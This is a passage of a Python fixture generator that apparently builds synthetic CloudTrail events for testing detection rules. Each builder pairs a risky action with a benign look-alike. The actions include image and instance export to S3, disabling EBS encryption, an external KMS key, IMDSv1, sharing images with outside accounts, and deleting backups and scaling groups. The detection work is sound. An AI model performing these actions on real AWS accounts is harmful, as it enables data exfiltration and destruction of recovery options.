                  snapshotTaskDetail={"diskImageSize": 0.0, "format": "VHD", "progress": "3", "status": "active",
                                      "statusMessage": "pending",
                                      "userBucket": {"s3Bucket": bucket, "s3Key": "uploads/data.vhd"}})
    return "ec2", "ImportSnapshot", req, resp, ec2_arn(ctx, "import-snapshot-task", "*")


def b_instance_export_task(ctx, row, look):
    iid = rid("i", row)
    bucket = "ops-exports-7f3a"
    task = rid("export-i", row)
    req = {"instanceId": iid, "targetEnvironment": "vmware", "description": "db-02 export",
           "exportToS3": {"diskImageFormat": "VMDK", "containerFormat": "ova", "s3Bucket": bucket, "s3Prefix": "exports/"}}
    resp = ec2_ok(ctx, exportTask={"exportTaskId": task, "description": "db-02 export", "state": "active",
                                   "instanceExport": {"instanceId": iid, "targetEnvironment": "vmware"},
                                   "exportToS3": {"diskImageFormat": "vmdk", "containerFormat": "ova",
                                                  "s3Bucket": bucket, "s3Key": f"exports/{task}.ova"}})
    return "ec2", "CreateInstanceExportTask", req, resp, ec2_arn(ctx, "instance", iid)


def b_export_image(ctx, row, look):
    ami = rid("ami", row)
    bucket = "ops-exports-7f3a"
    req = {"ExportImageRequest": {"ImageId": ami, "DiskImageFormat": "VMDK", "RoleName": "vmimport",
                                  "Description": "golden image export",
                                  "S3ExportLocation": {"S3Bucket": bucket, "S3Prefix": "ami-exports/"}}}
    resp = ec2_wrapped(ctx, "ExportImage", description="golden image export", diskImageFormat="vmdk",
                       exportImageTaskId=rid("export-ami", row), imageId=ami, progress="0", roleName="vmimport",
                       s3ExportLocation={"s3Bucket": bucket, "s3Prefix": "ami-exports/"}, status="active",
                       statusMessage="validating")
    return "ec2", "ExportImage", req, resp, ec2_arn(ctx, "image", ami)


def b_store_image_task(ctx, row, look):
    ami = rid("ami", row)
    req = {"CreateStoreImageTaskRequest": {"ImageId": ami, "Bucket": "ami-archive-0c41"}}
    return ("ec2", "CreateStoreImageTask", req, ec2_wrapped(ctx, "CreateStoreImageTask", objectKey=f"{ami}.bin"),
            ec2_arn(ctx, "image", ami))


def b_delete_snapshot(ctx, row, look):
    snap = rid("snap", row)
    return "ec2", "DeleteSnapshot", {"snapshotId": snap}, ec2_ok(ctx, _return=True), ec2_arn(ctx, "snapshot", snap)


def b_deregister_image(ctx, row, look):
    ami = rid("ami", row)
    return "ec2", "DeregisterImage", {"imageId": ami}, ec2_ok(ctx, _return=True), ec2_arn(ctx, "image", ami)


def b_disable_snapshot_bpa(ctx, row, look):
    return ec2_setting(ctx, "DisableSnapshotBlockPublicAccess", state="unblocked")


def b_disable_image_bpa(ctx, row, look):
    return ec2_setting(ctx, "DisableImageBlockPublicAccess", imageBlockPublicAccessState="unblocked")


def b_disable_image_dereg_protection(ctx, row, look):
    ami = rid("ami", row, "golden")
    return ("ec2", "DisableImageDeregistrationProtection",
            {"DisableImageDeregistrationProtectionRequest": {"ImageId": ami}},
            ec2_wrapped(ctx, "DisableImageDeregistrationProtection", **{"return": "disabled"}),
            ec2_arn(ctx, "image", ami))


def b_create_volume(ctx, row, look):
    az = ctx.region + "b"
    snap = rid("snap", row)
    vol = rid("vol", row)
    if look:  # empty volume: no snapshot
        req = {"size": 50, "availabilityZone": az, "volumeType": "gp3", "encrypted": True}
        snap_resp, size = "", "50"
    else:
        req = {"snapshotId": snap, "availabilityZone": az, "volumeType": "gp3", "encrypted": True}
        snap_resp, size = snap, "100"
    resp = ec2_ok(ctx, volumeId=vol, size=size, snapshotId=snap_resp, availabilityZone=az, status="creating",
                  createTime=ctx.ms(), volumeType="gp3", iops=3000, encrypted=True,
                  masterEncryptionKeyId=f"arn:aws:kms:{ctx.region}:{OWN}:key/{uid('kms', 'ebs', ctx.region)}",
                  tagSet={}, multiAttachEnabled=False, throughput=125)
    return "ec2", "CreateVolume", req, resp, ec2_arn(ctx, "volume", "*")


def b_attach_volume(ctx, row, look):
    vol, iid = rid("vol", row), rid("i", row)
    req = {"volumeId": vol, "instanceId": iid, "device": "/dev/sdf"}
    resp = ec2_ok(ctx, volumeId=vol, instanceId=iid, device="/dev/sdf", status="attaching", attachTime=ctx.ms(),
                  deleteOnTermination=False)
    return "ec2", "AttachVolume", req, resp, ec2_arn(ctx, "volume", vol)


def b_detach_volume(ctx, row, look):
    vol, iid = rid("vol", row), rid("i", row)
    req = {"volumeId": vol, "force": False}
    resp = ec2_ok(ctx, volumeId=vol, instanceId=iid, device="/dev/sdf", status="detaching",
                  attachTime=ctx.ms(-86400 * 41), deleteOnTermination=False)
    return "ec2", "DetachVolume", req, resp, ec2_arn(ctx, "volume", vol)


def b_delete_volume(ctx, row, look):
    vol = rid("vol", row)
    return "ec2", "DeleteVolume", {"volumeId": vol}, ec2_ok(ctx, _return=True), ec2_arn(ctx, "volume", vol)


def b_disable_ebs_encryption(ctx, row, look):
    return ec2_setting(ctx, "DisableEbsEncryptionByDefault", ebsEncryptionByDefault=False)


def b_modify_ebs_kms(ctx, row, look):
    key = f"arn:aws:kms:{ctx.region}:{EXT}:key/{uid('kms', 'external', row)}"
    return ("ec2", "ModifyEbsDefaultKmsKeyId", {"ModifyEbsDefaultKmsKeyIdRequest": {"KmsKeyId": key}},
            ec2_wrapped(ctx, "ModifyEbsDefaultKmsKeyId", kmsKeyId=key), ec2_arn(ctx, "*", "*"))


def b_run_instances_imdsv1(ctx, row, look):
    return run_instances(ctx, row, 1, "t3.medium", "optional", "legacy-app-01")


def b_run_instances(ctx, row, look):
    return run_instances(ctx, row, 2, "c6i.4xlarge", "required", "batch-worker")


def b_request_spot(ctx, row, look):
    ami, subnet, sg = rid("ami", row), rid("subnet", "prod-a"), rid("sg", "app")
    spec = {"imageId": ami, "instanceType": "g4dn.4xlarge", "subnetId": subnet,
            "groupSet": {"items": [{"groupId": sg}]}, "monitoring": {"enabled": False}}
    req = {"spotPrice": "0.90", "instanceCount": 2, "type": "one-time", "launchSpecification": spec}
    items = []
    for i in range(2):
        items.append({"spotInstanceRequestId": "sir-" + hx("sir", row, i, n=8), "spotPrice": "0.900000",
                      "type": "one-time", "state": "open",
                      "status": {"code": "pending-evaluation", "updateTime": ctx.ms(),
                                 "message": "Your Spot request has been submitted for review, and is pending evaluation."},
                      "launchSpecification": {"imageId": ami, "instanceType": "g4dn.4xlarge",
                                              "placement": {"availabilityZone": ctx.region + "a"},
                                              "monitoring": {"enabled": False}, "subnetId": subnet,
                                              "groupSet": {"items": [{"groupId": sg, "groupName": "app"}]}},
                      "createTime": ctx.ms(), "productDescription": "Linux/UNIX",
                      "instanceInterruptionBehavior": "terminate"})
    return ("ec2", "RequestSpotInstances", req, ec2_ok(ctx, spotInstanceRequestSet={"items": items}),
            ec2_arn(ctx, "spot-instances-request", "*"))


def b_request_spot_fleet(ctx, row, look):
    ami, subnet = rid("ami", row, "render"), rid("subnet", "prod-a")
    config = {"iamFleetRole": f"arn:aws:iam::{OWN}:role/aws-ec2-spot-fleet-tagging-role",
              "allocationStrategy": "priceCapacityOptimized", "targetCapacity": 8, "type": "maintain",
              "terminateInstancesWithExpiration": True,
              "launchSpecifications": [{"imageId": ami, "instanceType": t, "subnetId": subnet}
                                       for t in ("c6i.8xlarge", "c6a.8xlarge")],
              "clientToken": uid(ctx.key, "clientToken")}
    return ("ec2", "RequestSpotFleet", {"spotFleetRequestConfig": config},
            ec2_ok(ctx, spotFleetRequestId="sfr-" + uid(row, "sfr")), ec2_arn(ctx, "spot-fleet-request", "*"))


def b_create_fleet(ctx, row, look):
    lt = rid("lt", row)
    req = {"CreateFleetRequest": {
        "Type": "instant",
        "TargetCapacitySpecification": {"TotalTargetCapacity": 4, "DefaultTargetCapacityType": "on-demand"},
        "LaunchTemplateConfigs": {"LaunchTemplateSpecification": {"LaunchTemplateId": lt, "Version": "$Latest"},
                                  "Overrides": [{"InstanceType": "g5.xlarge", "tag": 1},
                                                {"InstanceType": "g5.2xlarge", "tag": 2}],
                                  "tag": 1},
        "ClientToken": uid(ctx.key, "clientToken")}}
    ids = [rid("i", row, i) for i in range(4)]
    resp = ec2_wrapped(ctx, "CreateFleet", fleetId="fleet-" + uid(row, "fleet"), errorSet="",
                       fleetInstanceSet={"item": {"lifecycle": "on-demand",
                                                  "launchTemplateAndOverrides": {
                                                      "launchTemplateSpecification": {"launchTemplateId": lt, "version": "1"},
                                                      "overrides": {"instanceType": "g5.xlarge"}},
                                                  "instanceIds": {"item": ids}, "instanceType": "g5.xlarge"}})
    return "ec2", "CreateFleet", req, resp, ec2_arn(ctx, "fleet", "*")


def b_instances_state(ctx, row, look, name, n, cur, prev, extra=None):
    ids = [rid("i", row, i) for i in range(n)]
    req = {"instancesSet": {"items": [{"instanceId": i} for i in ids]}}
    if extra:
        req.update(extra)
    resp = ec2_ok(ctx, instancesSet={"items": [instance_state(i, cur, prev) for i in ids]})
    return "ec2", name, req, resp, ec2_arn(ctx, "instance", ids[0])


def b_user_data(ctx, row, look):
    iid = rid("i", row)
    return ("ec2", "ModifyInstanceAttribute", {"instanceId": iid, "userData": "<sensitiveDataRemoved>"},
            ec2_ok(ctx, _return=True), ec2_arn(ctx, "instance", iid))


def b_group_set(ctx, row, look):
    iid = rid("i", row)
    req = {"instanceId": iid, "groupSet": {"items": [{"groupId": rid("sg", "app")}, {"groupId": rid("sg", "debug-any")}]}}
    return "ec2", "ModifyInstanceAttribute", req, ec2_ok(ctx, _return=True), ec2_arn(ctx, "instance", iid)


def imds_options(tokens: str) -> dict:
    return {"state": "pending", "httpTokens": tokens, "httpPutResponseHopLimit": 2, "httpEndpoint": "enabled",
            "httpProtocolIpv6": "disabled", "instanceMetadataTags": "disabled"}


def b_imds(ctx, row, look):
    """Flat shape, as the normalizer reads it (see variants/ for the wrapped shape CloudTrail logs)."""
    iid = rid("i", row)
    tokens = "required" if look else "optional"
    req = {"instanceId": iid, "httpTokens": tokens, "httpEndpoint": "enabled", "httpPutResponseHopLimit": 2}
    resp = ec2_ok(ctx, instanceId=iid, instanceMetadataOptions=imds_options(tokens))
    return "ec2", "ModifyInstanceMetadataOptions", req, resp, ec2_arn(ctx, "instance", iid)


def b_imds_wrapped(ctx, row, look):
    iid = rid("i", row)
    tokens = "required" if look else "optional"
    req = {"ModifyInstanceMetadataOptionsRequest": {"InstanceId": iid, "HttpTokens": tokens,
                                                    "HttpEndpoint": "enabled", "HttpPutResponseHopLimit": 2}}
    resp = ec2_wrapped(ctx, "ModifyInstanceMetadataOptions", instanceId=iid, instanceMetadataOptions=imds_options(tokens))
    return "ec2", "ModifyInstanceMetadataOptions", req, resp, ec2_arn(ctx, "instance", iid)


def b_associate_profile(ctx, row, look):
    iid = rid("i", row)
    req = {"AssociateIamInstanceProfileRequest": {"InstanceId": iid, "IamInstanceProfile": {"Name": "ec2-admin-profile"}}}
    resp = ec2_wrapped(ctx, "AssociateIamInstanceProfile", iamInstanceProfileAssociation={
        "associationId": rid("iip-assoc", row), "instanceId": iid, "state": "associating",
        "iamInstanceProfile": {"arn": f"arn:aws:iam::{OWN}:instance-profile/ec2-admin-profile",
                               "id": "AIPA" + b32("ip", "ec2-admin-profile", n=17)}})
    return "ec2", "AssociateIamInstanceProfile", req, resp, ec2_arn(ctx, "instance", iid)


def b_replace_profile(ctx, row, look):
    iid = rid("i", row)
    assoc = rid("iip-assoc", row, "old")
    arn = f"arn:aws:iam::{OWN}:instance-profile/ec2-admin-profile"
    req = {"ReplaceIamInstanceProfileAssociationRequest": {"AssociationId": assoc, "IamInstanceProfile": {"Arn": arn}}}
    resp = ec2_wrapped(ctx, "ReplaceIamInstanceProfileAssociation", iamInstanceProfileAssociation={
        "associationId": rid("iip-assoc", row, "new"), "instanceId": iid, "state": "associating",
        "iamInstanceProfile": {"arn": arn, "id": "AIPA" + b32("ip", "ec2-admin-profile", n=17)}})
    return "ec2", "ReplaceIamInstanceProfileAssociation", req, resp, ec2_arn(ctx, "instance", iid)


def b_serial_console(ctx, row, look):
    return ec2_setting(ctx, "EnableSerialConsoleAccess", serialConsoleAccessEnabled=True)


def b_replace_root(ctx, row, look):
    iid, snap = rid("i", row), rid("snap", row)
    # The row of its own deletes the replaced volume; its look-alike keeps it (the default).
    discard = row == "aws.ec2.replace_root_volume_delete_replaced" and not look
    req = {"CreateReplaceRootVolumeTaskRequest": {"InstanceId": iid, "SnapshotId": snap,
                                                  "DeleteReplacedRootVolume": discard,
                                                  "ClientToken": uid(ctx.key, "clientToken")}}
    resp = ec2_wrapped(ctx, "CreateReplaceRootVolumeTask", replaceRootVolumeTask={
        "replaceRootVolumeTaskId": rid("replacevol", row), "instanceId": iid, "taskState": "pending",
        "startTime": ts(ctx.t), "tagSet": "", "snapshotId": snap, "deleteReplacedRootVolume": discard})
    return "ec2", "CreateReplaceRootVolumeTask", req, resp, ec2_arn(ctx, "instance", iid)


def b_launch_template(ctx, row, look):
    name = "web-lt-20261009"
    req = {"CreateLaunchTemplateRequest": {
        "LaunchTemplateName": name, "VersionDescription": "initial",
        "LaunchTemplateData": {"ImageId": rid("ami", row), "InstanceType": "m6i.large",
                               "UserData": "<sensitiveDataRemoved>",
                               "IamInstanceProfile": {"Name": "app-instance-profile"},
                               "SecurityGroupId": [{"tag": 1, "content": rid("sg", "app")}],
                               "MetadataOptions": {"HttpTokens": "required"}},
        "ClientToken": uid(ctx.key, "clientToken")}}
    resp = ec2_wrapped(ctx, "CreateLaunchTemplate", launchTemplate={
        "launchTemplateId": rid("lt", row), "launchTemplateName": name, "createTime": ts(ctx.t),
        "createdBy": ctx.arn(), "defaultVersionNumber": 1, "latestVersionNumber": 1})
    return "ec2", "CreateLaunchTemplate", req, resp, ec2_arn(ctx, "launch-template", "*")


def b_launch_template_version(ctx, row, look):
    lt = rid("lt", row)
    profile_arn = f"arn:aws:iam::{OWN}:instance-profile/ec2-admin-profile"
    req = {"CreateLaunchTemplateVersionRequest": {
        "LaunchTemplateId": lt, "SourceVersion": "3", "VersionDescription": "hotfix",
        "LaunchTemplateData": {"UserData": "<sensitiveDataRemoved>", "IamInstanceProfile": {"Arn": profile_arn}}}}
    resp = ec2_wrapped(ctx, "CreateLaunchTemplateVersion", launchTemplateVersion={
        "launchTemplateId": lt, "launchTemplateName": "batch-workers", "versionNumber": 4,
        "versionDescription": "hotfix", "createTime": ts(ctx.t), "createdBy": ctx.arn(), "defaultVersion": False,
        "launchTemplateData": {"imageId": rid("ami", row), "instanceType": "c6i.2xlarge",
                               "userData": "<sensitiveDataRemoved>", "iamInstanceProfile": {"arn": profile_arn}}})
    return "ec2", "CreateLaunchTemplateVersion", req, resp, ec2_arn(ctx, "launch-template", lt)


def b_launch_template_gpu(ctx, row, look):
    """A launch template for a GPU type (`look`: a general-purpose one)."""
    service, name, req, resp, arn = b_launch_template(ctx, row, look)
    req["CreateLaunchTemplateRequest"]["LaunchTemplateName"] = "batch-gpu"
    resp["CreateLaunchTemplateResponse"]["launchTemplate"]["launchTemplateName"] = "batch-gpu"
    req["CreateLaunchTemplateRequest"]["LaunchTemplateData"]["InstanceType"] = "m6i.2xlarge" if look else "g5.12xlarge"
    return service, name, req, resp, arn


def b_launch_template_version_gpu(ctx, row, look):
    """A launch template version that sets a GPU type (`look`: a general-purpose one)."""
    service, name, req, resp, arn = b_launch_template_version(ctx, row, look)
    kind = "c6i.2xlarge" if look else "p3.8xlarge"
    req["CreateLaunchTemplateVersionRequest"]["LaunchTemplateData"]["InstanceType"] = kind
    resp["CreateLaunchTemplateVersionResponse"]["launchTemplateVersion"]["launchTemplateData"]["instanceType"] = kind
    return service, name, req, resp, arn


def b_launch_template_imdsv1(ctx, row, look):
    """A launch template that allows IMDSv1 (`look`: one that requires IMDSv2)."""
    service, name, req, resp, arn = b_launch_template(ctx, row, look)
    req["CreateLaunchTemplateRequest"]["LaunchTemplateName"] = "legacy-agents"
    resp["CreateLaunchTemplateResponse"]["launchTemplate"]["launchTemplateName"] = "legacy-agents"
    req["CreateLaunchTemplateRequest"]["LaunchTemplateData"]["MetadataOptions"] = {
        "HttpTokens": "required" if look else "optional", "HttpEndpoint": "enabled"}
    return service, name, req, resp, arn


def b_launch_template_version_imdsv1(ctx, row, look):
    """A launch template version that allows IMDSv1 (`look`: one that requires IMDSv2)."""
    service, name, req, resp, arn = b_launch_template_version(ctx, row, look)
    tokens = "required" if look else "optional"
    req["CreateLaunchTemplateVersionRequest"]["LaunchTemplateData"]["MetadataOptions"] = {"HttpTokens": tokens}
    resp["CreateLaunchTemplateVersionResponse"]["launchTemplateVersion"]["launchTemplateData"]["metadataOptions"] = {
        "httpTokens": tokens, "httpEndpoint": "enabled"}
    return service, name, req, resp, arn


def rbin_arn(ctx, ident):
    return f"arn:aws:rbin:{ctx.region}:{OWN}:rule/{ident}"


def rbin_id(row):
    raw = b64("rbin", row, n=24).replace("+", "").replace("/", "")
    return raw[:11]


def b_rbin_delete(ctx, row, look):
    ident = rbin_id(row)
    return "rbin", "DeleteRule", {"identifier": ident}, None, rbin_arn(ctx, ident)


def b_rbin_update(ctx, row, look):
    ident = rbin_id(row)
    req = {"identifier": ident, "retentionPeriod": {"retentionPeriodValue": 1, "retentionPeriodUnit": "DAYS"},
           "description": "Match all snapshots", "resourceType": "EBS_SNAPSHOT"}
    return "rbin", "UpdateRule", req, None, rbin_arn(ctx, ident)


def b_restore_snapshot_rbin(ctx, row, look):
    snap = rid("snap", row, "prepatch")
    vol = rid("vol", row, "prepatch")
    resp = ec2_wrapped(ctx, "RestoreSnapshotFromRecycleBin", snapshotId=snap, volumeId=vol, volumeSize=40,
                       encrypted=True, ownerId=OWN, progress="100%", state="completed",
                       description="pre-patch root volume", startTime=ts(ctx.t - dt.timedelta(days=9)))
    return ("ec2", "RestoreSnapshotFromRecycleBin", {"RestoreSnapshotFromRecycleBinRequest": {"SnapshotId": snap}},
            resp, ec2_arn(ctx, "snapshot", snap))


def b_restore_image_rbin(ctx, row, look):
    ami = rid("ami", row, "prepatch")
    return ("ec2", "RestoreImageFromRecycleBin", {"RestoreImageFromRecycleBinRequest": {"ImageId": ami}},
            ec2_wrapped(ctx, "RestoreImageFromRecycleBin", **{"return": True}), ec2_arn(ctx, "image", ami))


def b_enable_image(ctx, row, look):
    ami = rid("ami", row, "retired")
    return ("ec2", "EnableImage", {"EnableImageRequest": {"ImageId": ami}},
            ec2_wrapped(ctx, "EnableImage", **{"return": True}), ec2_arn(ctx, "image", ami))


def b_disable_image(ctx, row, look):
    ami = rid("ami", row, "booking")
    return ("ec2", "DisableImage", {"DisableImageRequest": {"ImageId": ami}},
            ec2_wrapped(ctx, "DisableImage", **{"return": True}), ec2_arn(ctx, "image", ami))


def b_unlock_snapshot(ctx, row, look):
    snap = rid("snap", row, "evidence")
    resp = ec2_wrapped(ctx, "UnlockSnapshot", snapshotId=snap)
    return ("ec2", "UnlockSnapshot", {"UnlockSnapshotRequest": {"SnapshotId": snap}}, resp,
            ec2_arn(ctx, "snapshot", snap))


def b_imds_defaults(ctx, row, look):
    """The account's defaults: IMDSv1 allowed again (`look`: IMDSv2 required); the catch-all row's
    positive raises the hop limit alone."""
    if row == "aws.ec2.modify_instance_metadata_defaults":
        req = {"HttpPutResponseHopLimit": 2}
    else:
        req = {"HttpTokens": "required" if look else "optional", "HttpEndpoint": "enabled"}
    return ("ec2", "ModifyInstanceMetadataDefaults", {"ModifyInstanceMetadataDefaultsRequest": req},
            ec2_wrapped(ctx, "ModifyInstanceMetadataDefaults", **{"return": True}), ec2_arn(ctx, "*", "*"))


def b_disable_allowed_images(ctx, row, look):
    return ec2_setting(ctx, "DisableAllowedImagesSettings", allowedImagesSettingsState="disabled")


def b_restore_snapshot_tier(ctx, row, look):
    snap = rid("snap", row, "archived")
    req = {"RestoreSnapshotTierRequest": {"SnapshotId": snap, "TemporaryRestoreDays": 7}}
    resp = ec2_wrapped(ctx, "RestoreSnapshotTier", snapshotId=snap, restoreStartTime=ts(ctx.t), restoreDuration=7,
                       isPermanentRestore=False)
    return "ec2", "RestoreSnapshotTier", req, resp, ec2_arn(ctx, "snapshot", snap)


def b_modify_launch_template(ctx, row, look):
    """The default version moved back to an older one: no new version written."""
    lt = rid("lt", "checkout-workers")
    req = {"ModifyLaunchTemplateRequest": {"LaunchTemplateId": lt, "SetDefaultVersion": "3"}}
    resp = ec2_wrapped(ctx, "ModifyLaunchTemplate", launchTemplate={
        "launchTemplateId": lt, "launchTemplateName": "checkout-workers",
        "createTime": ts(ctx.t - dt.timedelta(days=120)).replace("Z", ".000Z"),
        "createdBy": f"arn:aws:sts::{OWN}:assumed-role/deploy-pipeline/deploy", "defaultVersionNumber": 3,
        "latestVersionNumber": 9})
    return "ec2", "ModifyLaunchTemplate", req, resp, ec2_arn(ctx, "launch-template", lt)


ASG = "asg-checkout-workers"


def asg_arn(ctx, name: str) -> str:
    """An Auto Scaling group's ARN (a UUID between the type and the name), as an AccessDenied
    message names it."""
    return f"arn:aws:autoscaling:{ctx.region}:{OWN}:autoScalingGroup:{uid(name, 'asg')}:autoScalingGroupName/{name}"


def b_instance_refresh(ctx, row, look):
    """A rolling refresh to a named launch template version (an old one, as a rollback does)."""
    req = {"autoScalingGroupName": ASG, "strategy": "Rolling",
           "desiredConfiguration": {"launchTemplate": {"launchTemplateId": rid("lt", "checkout-workers"), "version": "3"}},
           "preferences": {"minHealthyPercentage": 90, "instanceWarmup": 120, "skipMatching": False}}
    return "autoscaling", "StartInstanceRefresh", req, {"instanceRefreshId": uid(ctx.key, "refresh")}, asg_arn(ctx, ASG)


def b_asg_terminate(ctx, row, look):
    """One instance terminated without lowering the group's capacity: it is replaced."""
    inst = rid("i", row, "worker")
    req = {"instanceId": inst, "shouldDecrementDesiredCapacity": False}
    resp = {"activity": {
        "activityId": uid(ctx.key, "activity"), "autoScalingGroupName": ASG,
        "description": f"Terminating EC2 instance: {inst}",
        "cause": f"At {ts(ctx.t)} instance {inst} was taken out of service in response to a user request.",
        "startTime": ts(ctx.t), "statusCode": "InProgress", "progress": 0,
        "details": json.dumps({"Subnet ID": rid("subnet", "app-a"), "Availability Zone": ctx.region + "a"})}}
    # Auto Scaling authorizes the call on the group, which an AccessDenied names.
    return "autoscaling", "TerminateInstanceInAutoScalingGroup", req, resp, asg_arn(ctx, ASG)


def b_asg_delete(ctx, row, look):
    name = "asg-ids-sensors"
    return ("autoscaling", "DeleteAutoScalingGroup", {"autoScalingGroupName": name, "forceDelete": True}, None,
            asg_arn(ctx, name))


def b_asg_zero(ctx, row, look):
    """The group emptied (`look`: scaled out to 6, an autoscaler's routine)."""
    name = "asg-checkin-prod"
    size = 6 if look else 0
    req = {"autoScalingGroupName": name, "minSize": 2 if look else 0, "maxSize": 12 if look else 0,
           "desiredCapacity": size}
    return "autoscaling", "UpdateAutoScalingGroup", req, None, asg_arn(ctx, name)


def b_desired_zero(ctx, row, look):
    """Desired capacity 0 (`look`: scaled in to 2)."""
    req = {"autoScalingGroupName": ASG, "desiredCapacity": 2 if look else 0, "honorCooldown": False}
    return "autoscaling", "SetDesiredCapacity", req, None, asg_arn(ctx, ASG)


def b_asg_create(ctx, row, look):
    name = "asg-build-runners"
    req = {"autoScalingGroupName": name, "minSize": 0, "maxSize": 4, "desiredCapacity": 2,
           "launchTemplate": {"launchTemplateId": rid("lt", "build-runners"), "version": "$Latest"},
           "vPCZoneIdentifier": f"{rid('subnet', 'app-a')},{rid('subnet', 'app-b')}",
           "tags": [{"key": "team", "value": "platform", "propagateAtLaunch": True}]}
    return "autoscaling", "CreateAutoScalingGroup", req, None, asg_arn(ctx, name)


def backup_point(ctx, row):
    return f"arn:aws:ec2:{ctx.region}::snapshot/{rid('snap', row, 'backup')}"


def b_backup_restore(ctx, row, look):
    req = {"recoveryPointArn": backup_point(ctx, row), "resourceType": "EBS",
           "iamRoleArn": f"arn:aws:iam::{OWN}:role/service-role/AWSBackupDefaultServiceRole",
           "metadata": {"availabilityZone": ctx.region + "a", "encrypted": "true", "volumeType": "gp3"}}
    return "backup", "StartRestoreJob", req, {"restoreJobId": uid(ctx.key, "restore-job").upper()}, req["recoveryPointArn"]


def b_backup_delete_point(ctx, row, look):
    req = {"backupVaultName": "Default", "recoveryPointArn": backup_point(ctx, row)}
    return "backup", "DeleteRecoveryPoint", req, None, req["recoveryPointArn"]


def java_time(t: dt.datetime) -> str:
    """A time as CloudTrail writes some services' responses (the Java SDK's format, UTC)."""
    return f"{t:%b} {t.day}, {t.year}, {int(t.strftime('%I'))}:{t:%M:%S} {t:%p}"


def b_backup_lifecycle(ctx, row, look):
    """A recovery point made 5 days ago set to be deleted the next day (`look`: kept 400 days
    from its creation, a legal hold)."""
    days = 400 if look else 6
    req = {"backupVaultName": "Default", "recoveryPointArn": backup_point(ctx, row),
           "lifecycle": {"deleteAfterDays": days}}
    resp = {"backupVaultArn": f"arn:aws:backup:{ctx.region}:{OWN}:backup-vault:Default",
            "recoveryPointArn": req["recoveryPointArn"], "lifecycle": req["lifecycle"],
            "calculatedLifecycle": {"deleteAt": java_time(ctx.t + dt.timedelta(days=days - 5))}}
    return "backup", "UpdateRecoveryPointLifecycle", req, resp, req["recoveryPointArn"]


def b_delete_fleets(ctx, row, look):
    """Two EC2 Fleets deleted with their instances (`look`: the instances kept)."""
    fleets = [f"fleet-{uid(ctx.key, 'fleet', str(i))}" for i in range(2)]
    req = {"DeleteFleetsRequest": {"FleetId": fleets, "TerminateInstances": not look}}
    resp = {"DeleteFleetsResponse": {"xmlns": "http://ec2.amazonaws.com/doc/2016-11-15/",
            "requestId": uid(ctx.key, "requestId"),
            "successfulFleetDeletionSet": {"item": [
                {"fleetId": f, "currentFleetState": "deleted_terminating" if not look else "deleted_running",
                 "previousFleetState": "active"} for f in fleets]},
            "unsuccessfulFleetDeletionSet": ""}}
    return "ec2", "DeleteFleets", req, resp, f"arn:aws:ec2:{ctx.region}:{OWN}:fleet/{fleets[0]}"


def b_cancel_spot_fleet(ctx, row, look):
    """A Spot Fleet request cancelled with its instances (`look`: the instances kept)."""
    sfr = f"sfr-{uid(ctx.key, 'sfr')}"
    req = {"CancelSpotFleetRequestsRequest": {"SpotFleetRequestId": {"tag": 1, "content": sfr},
                                              "TerminateInstances": not look}}
    resp = {"CancelSpotFleetRequestsResponse": {"xmlns": "http://ec2.amazonaws.com/doc/2016-11-15/",
            "requestId": uid(ctx.key, "requestId"),
            "successfulFleetRequestSet": {"item": {"spotFleetRequestId": sfr,
                                                   "currentSpotFleetRequestState": "cancelled_terminating" if not look else "cancelled_running",
                                                   "previousSpotFleetRequestState": "active"}},
            "unsuccessfulFleetRequestSet": ""}}
    return "ec2", "CancelSpotFleetRequests", req, resp, f"arn:aws:ec2:{ctx.region}:{OWN}:spot-fleet-request/{sfr}"


def b_asg_scheduled_zero(ctx, row, look):
    """A one-time scheduled action emptying the group (`look`: the morning scale-out to 6)."""
    size = 6 if look else 0
    req = {"autoScalingGroupName": ASG, "scheduledActionName": "maint-window" if not look else "morning-scale-out",
           "startTime": (ctx.t + dt.timedelta(hours=20)).strftime("%Y-%m-%dT%H:%M:%SZ"),
           "minSize": 2 if look else 0, "maxSize": 12 if look else 0, "desiredCapacity": size}
    return "autoscaling", "PutScheduledUpdateGroupAction", req, None, asg_arn(ctx, ASG)


def ws_id(ctx, n: int = 0) -> str:
    return "ws-" + hx(ctx.key, "ws", n, n=9)


def ws_image_id(ctx) -> str:
    return "wsi-" + hx(ctx.key, "wsi", n=9)


def ws_arn(ctx, kind: str, ident: str) -> str:
    return f"arn:aws:workspaces:{ctx.region}:{OWN}:{kind}/{ident}"


def b_ws_image_permission(ctx, row, look):
    """A custom image's copy permission granted to another account (`look`: taken back)."""
    image = ws_image_id(ctx)
    req = {"imageId": image, "allowCopyImage": not look, "sharedAccountId": EXT}
    return "workspaces", "UpdateWorkspaceImagePermission", req, None, ws_arn(ctx, "workspaceimage", image)


def b_ws_create_image(ctx, row, look):
    """A custom image captured from a user's WorkSpace (the negative: denied)."""
    image = ws_image_id(ctx)
    req = {"name": "finance-desktop-backup", "description": "desktop backup", "workspaceId": ws_id(ctx)}
    resp = {"imageId": image, "name": req["name"], "description": req["description"],
            "operatingSystem": {"type": "WINDOWS"}, "state": "PENDING", "requiredTenancy": "DEFAULT",
            "created": ctx.t.timestamp(), "ownerAccountId": OWN}
    return "workspaces", "CreateWorkspaceImage", req, resp, ws_arn(ctx, "workspaceimage", image)


def b_ws_restore(ctx, row, look):
    """A WorkSpace restored to its last snapshot (the negative: denied)."""
    ws = ws_id(ctx)
    return "workspaces", "RestoreWorkspace", {"workspaceId": ws}, None, ws_arn(ctx, "workspace", ws)


def b_ws_rebuild(ctx, row, look):
    """A WorkSpace rebuilt, the one a call may name (the negative: denied)."""
    ids = [ws_id(ctx)]
    req = {"rebuildWorkspaceRequests": [{"workspaceId": w} for w in ids]}
    return "workspaces", "RebuildWorkspaces", req, {"failedRequests": []}, ws_arn(ctx, "workspace", ids[0])


def b_ws_terminate(ctx, row, look):
    """Two WorkSpaces terminated (the negative: denied)."""
    ids = [ws_id(ctx, i) for i in range(2)]
    req = {"terminateWorkspaceRequests": [{"workspaceId": w} for w in ids]}
    return "workspaces", "TerminateWorkspaces", req, {"failedRequests": []}, ws_arn(ctx, "workspace", ids[0])


LS_INSTANCE = "wordpress-prod-1"


def ls_arn(ctx, kind: str, name: str) -> str:
    return f"arn:aws:lightsail:{ctx.region}:{OWN}:{kind}/{name}"


def ls_ops(ctx, op_type: str, names: list[str], res_type: str) -> dict:
    """Lightsail's response: one asynchronous operation per resource it acts on."""
    return {"operations": [
        {"id": uid(ctx.key, "op", n), "resourceName": n, "resourceType": res_type, "createdAt": ctx.t.timestamp(),
         "location": {"availabilityZone": f"{ctx.region}a", "regionName": ctx.region}, "isTerminal": False,
         "operationType": op_type, "status": "Started", "statusChangedAt": ctx.t.timestamp()} for n in names]}


